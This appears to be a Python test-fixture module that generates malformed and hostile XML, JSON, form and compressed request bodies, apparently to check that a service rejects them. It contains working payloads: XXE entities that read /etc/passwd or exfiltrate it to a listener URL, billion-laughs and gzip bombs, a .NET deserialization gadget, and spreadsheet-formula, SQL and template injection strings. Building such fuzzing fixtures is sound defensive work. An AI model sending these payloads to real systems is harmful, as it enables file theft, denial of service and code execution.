"""Bodies that no client means to send, made from right ones: bombs, ways to other files and hosts, and rubbish."""

from __future__ import annotations

import gzip
import json
import re
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any, cast

Make = Callable[[bytes, str], bytes]
"""Makes a body from a right one; the text is an address on which somebody listens and that nobody is to call."""

# --- XML ------------------------------------------------------------------------------------------------------------

_DECLARATION = re.compile(rb"^\s*<\?xml[^>]*\?>\s*")
_DEEP = 100_000


def behind_prolog(document: bytes, prolog: bytes) -> bytes:
    """The document with something before its root, such as a document type."""
    return prolog + _DECLARATION.sub(b"", document)


def inside(document: bytes, content: bytes) -> bytes:
    """The document with something at the end of its root."""
    end = document.rindex(b"</")
    return document[:end] + content + document[end:]


def on_root(document: bytes, attributes: bytes) -> bytes:
    """The document with further attributes of its root."""
    plain = _DECLARATION.sub(b"", document)
    return re.sub(rb"^<([\w:]+)", lambda match: match[0] + b" " + attributes, plain, count=1)


def _typed(subset: bytes, content: bytes = b"&x;") -> Make:
    return lambda right, _: inside(behind_prolog(right, b"<!DOCTYPE r [" + subset + b"]>"), content)


def _calling(prolog: str, content: bytes = b"") -> Make:
    return lambda right, url: inside(behind_prolog(right, prolog.replace("URL", url).encode()), content)


def _with(content: bytes) -> Make:
    return lambda right, _: inside(right, content)


def _encoded(encoding: str, declared: str | None = None) -> Make:
    def make(right: bytes, _: str) -> bytes:
        text = _DECLARATION.sub(b"", right).decode()
        head = "" if declared is None else f'<?xml version="1.0" encoding="{declared}"?>'
        return (head + text).encode(encoding)

    return make


_LAUGHS = b'<!ENTITY a "hahahahaha">' + b"".join(
    b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)
_BY_PARAMETER = '<!DOCTYPE r [<!ENTITY % p SYSTEM "URL/p"> %p;]>'
_BY_ERROR = '<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY x SYSTEM \'URL/%f;\'>"> %e;]>'

XML_REFUSED: dict[str, Make] = {
    # entities and document types
    "a billion laughs": _typed(_LAUGHS, b"&j;"),
    "laughs in an attribute": lambda right, _: on_root(behind_prolog(right, b""), b'a="&a;"'),
    "one long entity, often": _typed(b'<!ENTITY x "' + b"x" * 100_000 + b'">', b"&x;" * 10_000),
    "an entity of itself": _typed(b'<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "an entity that is a file": _typed(b'<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "an entity that is a device": _typed(b'<!ENTITY x SYSTEM "file:///dev/zero">'),
    "an entity that is a command": _typed(b'<!ENTITY x SYSTEM "expect://id">'),
    "an entity that is not parsed": _typed(
        b'<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file:///etc/passwd" NDATA n>', b""
    ),
    "an entity elsewhere": _calling('<!DOCTYPE r [<!ENTITY x SYSTEM "URL/x">]>', b"&x;"),
    "a parameter entity elsewhere": _calling(_BY_PARAMETER),
    "a file in the address of an entity": _calling(_BY_ERROR, b"&x;"),
    "a document type elsewhere": _calling('<!DOCTYPE r SYSTEM "URL/r.dtd">'),
    "a public document type": _calling('<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0//EN" "URL/r.dtd">'),
    "an empty document type": _typed(b"", b""),
    "a document type that nothing uses": _typed(b"<!ELEMENT r ANY>", b""),
    "an attribute by default": _typed(b'<!ATTLIST r a CDATA "x">', b""),
    "an entity that nobody declared": _with(b"&nbsp;"),
    # what is no document
    "blanks": lambda _, __: b" \r\n\t",
    "a byte order mark": lambda _, __: b"\xef\xbb\xbf",
    "a comment": lambda _, __: b"<!-- -->",
    "JSON": lambda _, __: b'{"a": 1}',
    "bytes": lambda _, __: bytes(range(256)),
    "half": lambda right, _: right[: len(right) // 2],
    "all but the end": lambda right, _: right.rstrip()[:-1],
    "two roots": lambda right, _: right + _DECLARATION.sub(b"", right),
    "text behind the root": lambda right, _: right + b"x",
    "another root": lambda _, __: b'<Mailproof xmlns="urn:mailproof"/>',
    "tags that cross": _with(b"<a><b></a></b>"),
    "an attribute twice": _with(b'<a b="1" b="2"/>'),
    "an attribute without quotes": _with(b"<a b=1/>"),
    # characters
    "a NUL": _with(b"\x00"),
    "a control character": _with(b"\x01"),
    "a reference to NUL": _with(b"&#0;"),
    "a reference to a control character": _with(b"&#x1;"),
    "half a character": _with(b"&#xD800;"),
    "a character beyond Unicode": _with(b"&#x110000;"),
    "a byte that is no UTF-8": _with(b"\xff"),
    "an overlong character": _with(b"\xc0\xaf"),
    "UTF-7": lambda right, _: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-' + right,
    "UTF-32": _encoded("utf-32"),
    "EBCDIC": _encoded("cp037"),
    "another encoding than declared": _encoded("utf-8", "UTF-16"),
    "an encoding that nobody knows": _encoded("utf-8", "x-unheard-of"),
    "XML 1.1": lambda right, _: b'<?xml version="1.1"?>' + _DECLARATION.sub(b"", right),
    # sizes
    "100,000 levels": _with(b"<a>" * _DEEP + b"</a>" * _DEEP),
    "100,000 levels without end": _with(b"<a>" * _DEEP),
    "a tag of megabytes": _with(b'<a b="' + b"x" * 3_000_000 + b'"/>'),
    "100,000 names": _with(b"".join(b"<a%d/>" % number for number in range(100_000))),
    "100,000 attributes": lambda right, _: on_root(right, b" ".join(b'a%d=""' % number for number in range(100_000))),
}
"""What an operation refuses, whatever it is for."""

XML_SURVIVED: dict[str, Make] = {
    "a schema elsewhere": lambda right, url: on_root(
        right,
        f'xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="urn:a {url}/a.xsd"'.encode(),
    ),
    "XInclude of a file": _with(
        b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    ),
    "XInclude of an address": lambda right, url: inside(
        right, f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{url}/i"/>'.encode()
    ),
    "a style sheet elsewhere": lambda right, url: behind_prolog(
        right, f'<?xml-stylesheet type="text/xsl" href="{url}/s.xsl"?>'.encode()
    ),
    "a type to be made": _with(
        b'<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:type="System.Windows.Data.ObjectDataProvider"/>'
    ),
    "a reference to itself": _with(b'<a xmlns:z="http://schemas.microsoft.com/2003/10/Serialization/" z:Ref="i1"/>'),
    "a prefix that nobody declared": _with(b"<zz:a/>"),
    "200 levels": _with(b"<a>" * 200 + b"</a>" * 200),
    "100,000 empty elements": _with(b"<a/>" * 100_000),
    "a long comment": _with(b"<!--" + b"x" * 500_000 + b"-->"),
    "a section of markup": _with(b"<![CDATA[<!DOCTYPE a>&a;]]>"),
    "many references": _with(b"&amp;&#65;" * 100_000),
    "1,000 namespaces": _with(b"<a " + b" ".join(b'xmlns:n%d="urn:%d"' % (n, n) for n in range(1_000)) + b"/>"),
    "UTF-16": _encoded("utf-16"),
    "Latin-1": _encoded("latin-1", "ISO-8859-1"),
}
"""What an operation may take or refuse."""

_MARK = "mailproof-mark"

# --- JSON -----------------------------------------------------------------------------------------------------------


def with_member(right: bytes, text: str, name: str = '"Mailproof"') -> bytes:
    """The JSON text with one more member or item, which is written as it is."""
    rest = right.decode().lstrip()
    return (rest[0] + (f"{name}:{text}" if rest[0] == "{" else text) + "," + rest[1:]).encode()


def with_value(right: bytes, text: str, name: str = '"FirstName"') -> bytes:
    """The JSON text with a value in every `Values` in it, which is written as it is.

    Each value is that of a contact of its own: of that e-mail address there is none before.
    """
    address = f"{zlib.crc32((name + text).encode())}@example.com"
    marked = json.dumps(_marked(json.loads(right), address))
    return marked.replace(f'"{_MARK}": 0', f"{name}: {text}").encode()


def _marked(node: Any, address: str) -> Any:
    if isinstance(node, list):
        return [_marked(item, address) for item in cast("list[Any]", node)]
    if not isinstance(node, dict):
        return node
    members = cast("dict[str, Any]", node)
    values = {"Email": address, _MARK: 0}
    return {name: values if name == "Values" else _marked(value, address) for name, value in members.items()}


def _plain(text: bytes) -> Make:
    return lambda _, __: text


JSON_REFUSED: dict[str, Make] = {
    "half": lambda right, _: right[: len(right) // 2],
    "all but the end": lambda right, _: right.rstrip()[:-1],
    "blanks": _plain(b" \n "),
    "two values": lambda right, _: right + right,
    "a comma at the end": lambda right, _: right.rstrip()[:-1] + b"," + right.rstrip()[-1:],
    "a comment": lambda right, _: b"/* a */" + right,
    "single quotes": _plain(b"{'a': 1}"),
    "names without quotes": _plain(b"{a: 1}"),
    "a text": _plain(b'"a"'),
    "a number": _plain(b"1"),
    "true": _plain(b"true"),
    "XML": _plain(b"<a/>"),
    "bytes": _plain(bytes(range(256))),
    "no number": lambda right, _: with_member(right, "NaN"),
    "an infinite number": lambda right, _: with_member(right, "Infinity"),
    "a number in hexadecimal": lambda right, _: with_member(right, "0x10"),
    "a number with a leading zero": lambda right, _: with_member(right, "007"),
    "a control character": lambda right, _: with_member(right, '"\x01"'),
    "half a character": lambda right, _: with_member(right, '"\\ud800"'),
    "half a character as a name": lambda right, _: with_member(right, "1", '"\\udfff"'),
    "a byte that is no UTF-8": lambda right, _: with_member(right, '"?"').replace(b"?", b"\xff", 1),
    "an overlong character": lambda right, _: with_member(right, '"?"').replace(b"?", b"\xc0\xaf", 1),
    "UTF-16": lambda right, _: right.decode().encode("utf-16"),
    "UTF-32": lambda right, _: right.decode().encode("utf-32-le"),
    "100,000 levels of arrays": _plain(b"[" * _DEEP + b"]" * _DEEP),
    "100,000 levels of objects": _plain(b'{"a":' * _DEEP + b"1" + b"}" * _DEEP),
    "100,000 levels without end": _plain(b'[{"a":' * _DEEP),
    "100,000 levels in a member": lambda right, _: with_member(right, "[" * _DEEP + "]" * _DEEP),
    "a number beyond all": lambda right, _: with_member(right, "1e999"),
    "a number below all": lambda right, _: with_member(right, "-1e999"),
    "an integer of 5,000 digits": lambda right, _: with_member(right, "9" * 5_000),
}

JSON_SURVIVED: dict[str, Make] = {
    "a byte order mark": lambda right, _: b"\xef\xbb\xbf" + right,
    "a number next to nothing": lambda right, _: with_member(right, "1e-999999"),
    "a type to be made": lambda right, _: with_member(right, '"System.Windows.Data.ObjectDataProvider"', '"$type"'),
    "a prototype": lambda right, _: with_member(right, '{"Id": 1}', '"__proto__"'),
    "a reference": lambda right, _: with_member(right, '{"$ref": "1"}', '"$ref"'),
    "a member a hundred thousand times": lambda right, _: with_member(right, ",".join(['"a":1'] * _DEEP)[4:], '"a"'),
    "a hundred thousand members": lambda right, _: with_member(
        right, "{" + ",".join(f'"a{number}":1' for number in range(_DEEP)) + "}"
    ),
    "a hundred thousand arrays": lambda right, _: with_member(right, "[" + ",".join(["[]"] * _DEEP) + "]"),
    "a text of a megabyte": lambda right, _: with_member(right, '"' + "x" * 1_000_000 + '"'),
    "a megabyte of escapes": lambda right, _: with_member(right, '"' + "\\u0041" * 170_000 + '"'),
    "values that are none": lambda right, _: re.sub(rb'"Values": ?\{[^}]*\}', b'"Values": [1]', right),
    "a value of 200 levels": lambda right, _: with_value(right, "[" * 200 + "]" * 200),
    "a value of 1,000 levels": lambda right, _: with_value(right, "[" * 1_000 + "]" * 1_000),
    "values of 1,000 levels of objects": lambda right, _: with_value(right, '{"a":' * 1_000 + "1" + "}" * 1_000),
    "a value with NUL": lambda right, _: with_value(right, '"\\u0000"'),
    "a value of controls": lambda right, _: with_value(right, '"\\u0001\\u001b\\ufffe\\uffff"'),
    "a value of markup": lambda right, _: with_value(right, '"]]><!DOCTYPE a><&amp;\\r\\n"'),
    "a value of 30 digits": lambda right, _: with_value(right, "9" * 30),
    "a value of 300 digits": lambda right, _: with_value(right, "9" * 300),
    "a value that is minus zero": lambda right, _: with_value(right, "-0.0"),
    "a value that is nearly infinite": lambda right, _: with_value(right, "1.7976931348623157e308"),
    "a value that is nearly nothing": lambda right, _: with_value(right, "5e-324"),
    "a value of a megabyte": lambda right, _: with_value(right, '"' + "x" * 1_000_000 + '"'),
    "10,000 values": lambda right, _: with_value(right, "1" + "".join(f', "a{n}": 1' for n in range(10_000))),
    "a name without letters": lambda right, _: with_value(right, "1", '""'),
    "a name with NUL": lambda right, _: with_value(right, "1", '"a\\u0000b"'),
    "a name of markup": lambda right, _: with_value(right, "1", '"<a b=\\"&\\">"'),
    "a name of half a megabyte": lambda right, _: with_value(right, "1", '"' + "n" * 500_000 + '"'),
    "a name twice": lambda right, _: with_value(right, '1, "FirstName": 2'),
    "a name in two cases": lambda right, _: with_value(right, '1, "FIRSTNAME": 2'),
    "a formula": lambda right, _: with_value(right, "\"=cmd|'/c calc'!A1\""),
    "a template": lambda right, _: with_value(right, '"{{7*7}}${7*7}<%= 7*7 %>{Email}{{Email}}"'),
    "a statement": lambda right, _: with_value(right, '"\'; DROP TABLE row; --"'),
}

# --- forms ----------------------------------------------------------------------------------------------------------

_PART = b'--x\r\nContent-Disposition: form-data; name="a"'
MULTIPART_TYPE = "multipart/form-data; boundary=x"
URLENCODED_TYPE = "application/x-www-form-urlencoded"

MULTIPART_REFUSED: dict[str, Make] = {
    "no boundary": _plain(b"x"),
    "no end": _plain(_PART + b"\r\n\r\n1\r\n"),
    "10,000 parts": _plain((_PART + b"\r\n\r\n1\r\n") * 10_000 + b"--x--\r\n"),
    "no names": _plain(b"--x\r\nContent-Disposition: form-data\r\n\r\n1\r\n--x--\r\n"),
    "no headers": _plain(b"--x\r\n\r\n1\r\n--x--\r\n"),
    "huge headers": _plain(_PART + b"\r\nX: " + b"y" * 1_000_000 + b"\r\n\r\n1\r\n--x--\r\n"),
    "many headers": _plain(_PART + b"\r\nX: y" * 100_000 + b"\r\n\r\n1\r\n--x--\r\n"),
    "another charset": _plain(_PART + b"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n\xff\r\n--x--\r\n"),
    "bare line feeds": _plain((_PART + b"\r\n\r\n1\r\n--x--\r\n").replace(b"\r\n", b"\n")),
    "a name that is no UTF-8": _plain(_PART.replace(b'"a"', b'"\xff"') + b"\r\n\r\n1\r\n--x--\r\n"),
    "JSON": _plain(b'{"a": 1}'),
}

URLENCODED_REFUSED: dict[str, Make] = {
    "100,000 fields": _plain(b"&".join(b"a%d=1" % number for number in range(100_000))),
    "nothing but separators": _plain(b"&" * 100_000),
    "no UTF-8": _plain(b"a=%ff"),
    "no UTF-8 in a name": _plain(b"%c0%af=1"),
    "bytes": _plain(bytes(range(256))),
    "a million escapes": _plain(b"a=" + b"%41" * 1_000_000),
}

# --- sizes ----------------------------------------------------------------------------------------------------------

_LARGE = 29_900_000  # bytes, just below the limit of a body


def _much(before: bytes, text: bytes, after: bytes = b"") -> Make:
    return lambda _, __: before + text * (_LARGE // len(text)) + after


def _much_inside(text: bytes) -> Make:
    return lambda right, _: inside(right, text * (_LARGE // len(text)))


JSON_LARGE: dict[str, Make] = {
    "levels of arrays": _much(b"", b"["),
    "levels of objects": _much(b"", b'{"a":'),
    "empty arrays": _much(b'{"a":[', b"[],", b"1]}"),
    "empty objects": _much(b"[", b"{},", b"1]"),
    "numbers": _much(b"[", b"1,", b"1]"),
    "one member": _much(b"{", b'"a":1,', b'"a":1}'),
    "members": lambda _, __: b"{" + b",".join(b'"%d":1' % number for number in range(_LARGE // 12)) + b"}",
    "escapes": _much(b'{"a":"', b"\\u0041", b'"}'),
    "digits": _much(b'{"a":', b"9", b"}"),
    "digits behind the point": _much(b'{"a":1.', b"0", b"}"),
    "blanks": _much(b"", b" "),
}

XML_LARGE: dict[str, Make] = {
    "levels": _much_inside(b"<a>"),
    "empty elements": _much_inside(b"<a/>"),
    "a text": lambda right, _: inside(right, b"<a>" + b"x" * _LARGE + b"</a>"),
    "a comment": lambda right, _: inside(right, b"<!--" + b"x" * _LARGE + b"-->"),
    "a section": lambda right, _: inside(right, b"<a><![CDATA[" + b"x" * _LARGE + b"]]></a>"),
    "an attribute": lambda right, _: inside(right, b'<a b="' + b"x" * _LARGE + b'"/>'),
    "references": _much_inside(b"&amp;"),
    "instructions": _much_inside(b"<?a b?>"),
    "entities that nothing uses": lambda right, _: behind_prolog(
        right, b"<!DOCTYPE a [" + b'<!ENTITY a "a">' * (_LARGE // 15) + b"]>"
    ),
    "line breaks": _much_inside(b"\n"),
    "the beginning of a tag": _much(b"", b"<"),
}

# --- encodings ------------------------------------------------------------------------------------------------------

_BLANKS = 100_000_000


@cache
def _compressed_blanks() -> bytes:
    return gzip.compress(b" " * _BLANKS, compresslevel=1)


ENCODINGS: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "gzip": ("gzip", gzip.compress),
    "gzip by its old name": ("x-gzip", gzip.compress),
    "deflate": ("deflate", zlib.compress),
    "gzip twice": ("gzip, gzip", lambda body: gzip.compress(gzip.compress(body))),
    "gzip, undeclared": ("", gzip.compress),
    "a hundred megabytes of blanks": ("gzip", lambda body: _compressed_blanks() + gzip.compress(body)),
    "brotli that is none": ("br", lambda body: b"\x8b\x03\x80" + body[::-1]),
}
"""Content-Encoding, and how a body is made to have it."""

UNREADABLE_TYPES = (
    "text/plain",
    "application/octet-stream",
    "application/soap+xml",
    "application/x-msbin1",
    "application/bson",
    "application/vnd.ms-sync.wbxml",
    "multipart/mixed; boundary=x",
    "json",
    "application/json2",
    "application/json/xml",
    "x" * 4_000,
)
"""Content-Types that no operation reads."""
